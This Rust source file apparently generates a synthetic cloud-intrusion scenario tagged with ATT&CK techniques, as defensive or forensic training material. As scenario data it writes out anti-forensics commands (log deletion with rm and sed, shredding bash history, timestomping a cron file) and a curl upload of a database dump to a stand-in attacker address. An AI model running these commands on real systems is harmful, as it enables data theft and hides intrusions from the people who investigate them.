//! What is to stay unseen: the export is switched off, traces are cut out, and one run comes after the query.

use super::super::background::setting_resource;
use super::super::cast::{APP, Cast, DATA, DB, INTRUDER, PRODUCTION, WEB};
use super::run;
use crate::cloud::catalogue as kinds;
use crate::instant::Instant;
use crate::plan::{Call, Invoked, Plan, Way, Work};
use crate::world::{Client, Log, Trace};
use std::collections::BTreeSet;

pub(super) fn blind(plan: &mut Plan, by: Call, day: Instant) {
    for (subscription, minute) in [(PRODUCTION, 40), (DATA, 42)] {
        let resource = setting_resource(plan, subscription);
        let deleted = plan.call(
            by,
            &kinds::DIAGNOSTIC_SETTING_DELETE,
            subscription,
            &resource,
            day.at(10, minute, 3),
        );
        plan.step(
            "The export of the activity log is switched off",
            &["T1562.008"],
            Some(deleted),
            None,
        );
    }
}

pub(super) fn clean_up(plan: &mut Plan, by: Call, day: Instant, wiped: Option<Invoked>) {
    let etag = wiped
        .and_then(|it| plan.world.runs.get(it.run))
        .map_or(0, |it| it.goal_state.number);
    let script = include_str!("../scripts/wipe-app.sh").replace("@ETAG@", &etag.to_string());
    let work = Work::new(&script, "", 350)
        .starts(
            3,
            "/usr/bin/rm",
            &["rm", "-rf", "/var/lib/waagent/run-command/download/4"],
        )
        .starts(
            40,
            "/usr/bin/sed",
            &[
                "sed",
                "-i",
                "-e",
                "/seq=4 /d",
                "-e",
                "/status\\/4\\.status/d",
                "/var/log/azure/run-command/handler.log",
            ],
        );
    let invoked = plan.invoke(by, APP, Way::Action, work, day.at(10, 58, 30));
    run(
        plan,
        "The traces of one run are cut out of app01's logs",
        &["T1651", "T1070.004"],
        invoked,
    );

    let work = Work::new(include_str!("../scripts/wipe-web.sh"), "cleaned\n", 600)
        .starts(9, "/usr/bin/shred", &["shred", "-u", "/root/.bash_history"])
        .starts(
            30,
            "/usr/bin/touch",
            &["touch", "-d", "2024-04-30 10:00", "/etc/cron.d/systemd-tmp"],
        )
        .starts(
            500,
            "/usr/bin/rm",
            &[
                "rm",
                "-f",
                "--",
                "/var/lib/waagent/run-command/download/8/script.sh",
            ],
        );
    let invoked = plan.invoke(by, WEB, Way::Action, work, day.at(11, 5, 14));
    if let Some(run) = invoked.and_then(|it| plan.world.runs.get_mut(it.run)) {
        run.lost = BTreeSet::from([Trace::Script]);
    }
    run(
        plan,
        "A script empties an output on web01 and deletes itself",
        &["T1651", "T1070.004", "T1070.006"],
        invoked,
    );
}

/// After the query was made: only the guest knows.
pub(super) fn afterwards(plan: &mut Plan, cast: Cast, theirs: usize, day: Instant) {
    let by = Call {
        token: plan.token(
            cast.operator,
            Client::CommandLine,
            Some(INTRUDER),
            day.at(13, 0, 40),
            Some(theirs),
        ),
        address: INTRUDER,
        hostile: true,
    };
    let work = Work::new(include_str!("../scripts/late.sh"), "0\n", 8_000).starts(
        3,
        "/usr/bin/curl",
        &[
            "curl",
            "-fsS",
            "-T",
            "/var/tmp/.pg.dump",
            "-k",
            "https://203.0.113.200/u/db01/",
        ],
    );
    let invoked = plan.invoke(by, DB, Way::Action, work, day.at(13, 5, 27));
    run(
        plan,
        "The dump leaves db01, after the cloud export ended",
        &["T1651", "T1048"],
        invoked,
    );
    for (second, text) in [
        (
            0,
            "Accepted publickey for root from 203.0.113.77 port 51544 ssh2: ED25519 SHA256:ExampleFingerprintOfNobodyExampleFingerprint",
        ),
        (
            1,
            "pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
        ),
        (752, "pam_unix(sshd:session): session closed for user root"),
    ] {
        plan.remark(
            WEB,
            Log::Auth,
            day.at(13, 21, 8 + second),
            "sshd[5873]",
            text,
        );
    }
}
